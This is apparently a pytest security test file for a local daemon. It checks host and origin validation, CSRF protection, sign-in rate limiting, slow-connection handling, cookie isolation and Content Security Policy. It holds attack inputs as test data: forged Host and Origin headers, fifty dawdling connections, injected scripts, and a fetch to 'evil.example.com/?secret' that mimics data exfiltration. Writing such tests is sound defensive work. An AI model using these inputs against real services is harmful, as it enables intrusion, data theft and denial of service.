"""Attacks on the door of a running daemon: foreign names and pages, forged requests, guesses, a greedy neighbour."""

from __future__ import annotations

import json
import socket
from collections.abc import Iterator
from pathlib import Path

import httpx2
import pytest

from tests.flows.house import LivingHome
from tests.promises import promise
from tests.web.browser import CHROMIUM, chromium
from tests.web.neighbour import neighbour

needs_chromium = pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium here; install it to test the page")


@pytest.fixture
def house(tmp_path: Path) -> Iterator[LivingHome]:
    """A running daemon of a fresh home."""
    living = LivingHome(tmp_path / "home")
    living.start()
    yield living
    living.stop()


class Visitor:
    """Whoever knows the daemon's address, and chooses each header."""

    def __init__(self, house: LivingHome, client: httpx2.Client) -> None:
        address = json.loads(house.home.address.read_text("utf-8"))
        self.port: int = address["port"]
        self.page = f"{address['name']}.localhost:{self.port}"
        self.bearer = {"Authorization": f"Bearer {address['bearer']}"}
        self._client = client

    def ask(self, method: str, path: str, headers: dict[str, str], content: str = "") -> httpx2.Response:
        """One request with exactly these headers; no cookie is remembered."""
        self._client.cookies.clear()
        return self._client.request(
            method, f"http://127.0.0.1:{self.port}{path}", headers=headers, content=content or None
        )

    def as_page(self, cookie: str = "") -> dict[str, str]:
        """What the page itself would send."""
        headers = {"Host": self.page, "Origin": f"http://{self.page}", "X-Stead": "1"}
        headers |= {"Content-Type": "application/json", "Idempotency-Key": "from-the-page"}
        return headers | ({"Cookie": f"stead={cookie}"} if cookie else {})

    def sign_in(self, house: LivingHome) -> str:
        """A browser session's cookie, bought with a fresh code."""
        code = house.post("/sign-in-codes")["code"]
        answer = self.ask("POST", "/api/v1/sign-in", self.as_page(), json.dumps({"code": code}))
        assert answer.status_code == 200
        return answer.headers["set-cookie"].partition(";")[0].removeprefix("stead=")


@pytest.fixture
def visitor(house: LivingHome) -> Iterator[Visitor]:
    """Somebody at the door."""
    with httpx2.Client(timeout=15, trust_env=False) as client:
        yield Visitor(house, client)


@promise("SEC-9.host")
def test_a_foreign_name_or_origin_gets_nothing(house: LivingHome, visitor: Visitor) -> None:
    cookie = visitor.sign_in(house)
    for host in ("evil.example.com", f"localhost:{visitor.port}", f"127.0.0.1:{visitor.port + 1}", "169.254.169.254"):
        for path in ("/", "/api/v1/status", "/api/v1/events/stream"):
            assert visitor.ask("GET", path, visitor.bearer | {"Host": host}).status_code == 421
    for origin in ("http://evil.example.com", "null", f"http://127.0.0.1:{visitor.port}", f"https://{visitor.page}"):
        headers = visitor.as_page(cookie) | {"Origin": origin}
        assert visitor.ask("GET", "/api/v1/objectives", headers).status_code == 403
        assert visitor.ask("POST", "/api/v1/stop", headers, "{}").status_code == 403
    assert visitor.ask("GET", "/api/v1/status", {"Cookie": f"stead={cookie}"}).status_code == 401
    assert visitor.ask("GET", "/api/v1/status", visitor.bearer | {"Host": visitor.page}).status_code == 401


@promise("SEC-9.csrf")
def test_a_forged_request_of_another_page_changes_nothing(house: LivingHome, visitor: Visitor, tmp_path: Path) -> None:
    cookie = visitor.sign_in(house)
    folder = tmp_path / "project"
    folder.mkdir()
    wish = json.dumps({"goal": "forged", "directory": str(folder)})
    own = visitor.as_page(cookie)
    for change in (
        {"Origin": "http://evil.example.com"},
        {"X-Stead": ""},
        {"Content-Type": "text/plain"},
        {"Content-Type": "application/x-www-form-urlencoded"},
        {"Content-Type": "multipart/form-data; boundary=x"},
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
    ):
        assert visitor.ask("POST", "/api/v1/objectives", own | change, wish).status_code in (403, 415), change
    assert house.get("/objectives")["items"] == []
    assert visitor.ask("POST", "/api/v1/objectives", own, wish).status_code == 201


@promise("SEC-9.rate")
def test_guessing_sign_in_codes_is_slowed_down_and_the_owner_is_not_shut_out(
    house: LivingHome, visitor: Visitor
) -> None:
    codes = [visitor.ask("POST", "/api/v1/sign-in", visitor.as_page(), '{"code": "guess"}') for _ in range(8)]
    assert [answer.status_code for answer in codes] == [401] * 5 + [429] * 3
    assert int(codes[-1].headers["retry-after"]) >= 1
    assert visitor.sign_in(house)


def test_one_caller_that_dawdles_keeps_nobody_else_waiting(house: LivingHome, visitor: Visitor) -> None:
    dawdlers = [socket.create_connection(("127.0.0.1", visitor.port), timeout=5) for _ in range(50)]
    for dawdler in dawdlers:
        dawdler.sendall(b"POST /api/v1/stop HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 100\r\n\r\n{")
    assert house.get("/status")["version"]
    for dawdler in dawdlers:
        dawdler.close()


@needs_chromium
@promise("SEC-9.sign-in", "SEC-9.cookie")
async def test_the_cookie_of_a_link_is_never_seen_by_a_server_on_another_port(
    house: LivingHome, visitor: Visitor
) -> None:
    link = house.cli("open", "--print").stdout.strip()
    async with chromium() as browser, neighbour() as other:
        page = await browser.page()
        await page.goto(link)
        await page.until("document.querySelector('#pill').textContent === 'live'")
        assert await page.run("location.href") == f"http://{visitor.page}/"
        (cookie,) = (await page.send("Network.getCookies", urls=[f"http://{visitor.page}"]))["cookies"]
        for host in ("127.0.0.1", "localhost", "preview-77.localhost", "127.0.0.1"):
            await page.goto(f"http://{host}:{other.port}/")
            await page.run("fetch('/again', {credentials: 'include'}).then(r => r.text())")
        assert any(b"own=1" in request for request in other.requests)
        assert not any(cookie["value"].encode() in request for request in other.requests)
        used = await browser.page()
        await used.send("Network.clearBrowserCookies")
        await used.goto(link)
        await used.until("document.body.innerText.includes('was used')")


@needs_chromium
@promise("SEC-9.csp")
async def test_the_page_runs_nothing_that_was_not_shipped_with_it(house: LivingHome) -> None:
    link = house.cli("open", "--print").stdout.strip()
    async with chromium() as browser:
        page = await browser.page()
        await page.goto(link)
        await page.until("document.querySelector('#pill').textContent === 'live'")
        assert page.errors == []
        inject = """(tag, set) => new Promise((done) => {
            const element = document.createElement(tag);
            element.onload = () => done('loaded');
            element.onerror = () => done('blocked');
            set(element);
            document.body.append(element);
            setTimeout(() => done(window.ran ? 'ran' : 'blocked'), 300);
        })"""
        for tag, set_it in (
            ("script", "(e) => { e.textContent = 'window.ran = true' }"),
            ("script", "(e) => { e.src = 'http://cdn.example.com/x.js' }"),
            ("img", "(e) => { e.src = 'http://pixel.example.com/x.png?secret' }"),
            ("link", "(e) => { e.rel = 'stylesheet'; e.href = 'http://cdn.example.com/x.css' }"),
            ("iframe", "(e) => { e.src = 'http://frame.example.com/' }"),
        ):
            result = await page.run(f"({inject})({tag!r}, {set_it})")
            ran = await page.run("window.ran === true")
            assert not ran, (tag, set_it)
            assert result == "blocked" or tag == "iframe", (tag, result)
        leak = "fetch('http://evil.example.com/?secret').then(() => 'sent', () => 'blocked')"
        assert await page.run(leak) == "blocked"
        assert sum("Content Security Policy" in error for error in page.errors) >= 5
